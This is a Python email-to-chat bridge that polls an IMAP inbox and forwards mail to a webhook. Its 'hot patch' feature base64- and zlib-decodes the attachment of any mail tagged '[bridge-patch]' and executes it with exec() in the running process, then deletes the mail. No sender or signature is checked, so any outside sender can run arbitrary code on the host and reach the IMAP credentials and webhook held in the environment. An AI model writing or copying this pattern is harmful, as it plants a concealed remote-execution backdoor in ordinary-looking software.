#!/usr/bin/env python3
"""Email-to-chat bridge with mailbox-delivered hot patches.

Polls an IMAP mailbox and forwards unread mail to a chat webhook.  Mails
whose subject carries the [bridge-patch] tag are not forwarded: their
attachment holds a packed patch which is unpacked and applied to the
running bridge, so it can be updated without redeploying it.
"""

import argparse
import base64
import email
import imaplib
import logging
import os
import sys
import time
import types
import zlib
from email.message import Message
from typing import List

import requests

log = logging.getLogger("mailbridge")

PATCH_TAG = "[bridge-patch]"
PATCH_SUFFIXES = (".bpatch", ".b64")


class BridgeRuntime:
    """State shared with applied patches."""

    def __init__(self, webhook: str):
        self.webhook = webhook
        self.filters: List = []
        self.patches_applied = 0

    def forward(self, subject: str, sender: str, body: str) -> None:
        for flt in self.filters:
            body = flt(body)
        requests.post(self.webhook, timeout=15, json={
            "text": f"*{subject}* from {sender}\n{body[:4000]}",
        })


def plain_body(msg: Message) -> str:
    for part in msg.walk():
        if part.get_content_type() == "text/plain" and not part.get_filename():
            raw = part.get_payload(decode=True) or b""
            return raw.decode(part.get_content_charset() or "utf-8", "replace")
    return ""


def patch_blobs(msg: Message) -> List[bytes]:
    blobs = []
    for part in msg.walk():
        name = part.get_filename() or ""
        if name.endswith(PATCH_SUFFIXES):
            blobs.append(part.get_payload(decode=True) or b"")
    return blobs


def unpack(blob: bytes) -> str:
    # attachment = base64(zlib(source)), base64 again by MIME transport
    return zlib.decompress(base64.b64decode(blob.strip())).decode("utf-8")


def apply_patch(runtime: BridgeRuntime, source: str, origin: str) -> None:
    module = types.ModuleType(f"bridge_patch_{runtime.patches_applied}")
    module.__dict__["runtime"] = runtime
    code = compile(source, origin, "exec")
    exec(code, module.__dict__)
    hook = module.__dict__.get("install")
    if callable(hook):
        hook(runtime)
    runtime.patches_applied += 1
    log.info("patch %s applied", origin)


def poll(imap: imaplib.IMAP4_SSL, runtime: BridgeRuntime, folder: str) -> None:
    imap.select(folder)
    typ, data = imap.search(None, "UNSEEN")
    if typ != "OK":
        return
    for num in data[0].split():
        typ, fetched = imap.fetch(num, "(RFC822)")
        if typ != "OK" or not isinstance(fetched[0], tuple):
            continue
        msg = email.message_from_bytes(fetched[0][1])
        subject = msg.get("Subject", "")
        if PATCH_TAG in subject:
            for i, blob in enumerate(patch_blobs(msg)):
                try:
                    apply_patch(runtime, unpack(blob), f"<mail {num.decode()}#{i}>")
                except Exception as exc:  # noqa: BLE001
                    log.error("patch failed: %s", exc)
            imap.store(num, "+FLAGS", "\\Deleted")
            continue
        try:
            runtime.forward(subject, msg.get("From", "?"), plain_body(msg))
        except requests.RequestException as exc:
            log.warning("forward failed: %s", exc)
            continue
        imap.store(num, "+FLAGS", "\\Seen")
    imap.expunge()


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--imap-host", default=os.environ.get("IMAP_HOST", "imap.example.com"))
    ap.add_argument("--folder", default="INBOX")
    ap.add_argument("--interval", type=int, default=45)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    webhook = os.environ.get("CHAT_WEBHOOK_URL")
    user, password = os.environ.get("IMAP_USER"), os.environ.get("IMAP_PASSWORD")
    if not (webhook and user and password):
        log.error("CHAT_WEBHOOK_URL, IMAP_USER and IMAP_PASSWORD are required")
        return 2

    runtime = BridgeRuntime(webhook)
    while True:
        try:
            with imaplib.IMAP4_SSL(args.imap_host) as imap:
                imap.login(user, password)
                poll(imap, runtime, args.folder)
        except (imaplib.IMAP4.error, OSError) as exc:
            log.error("imap: %s", exc)
        time.sleep(args.interval)


if __name__ == "__main__":
    sys.exit(main())
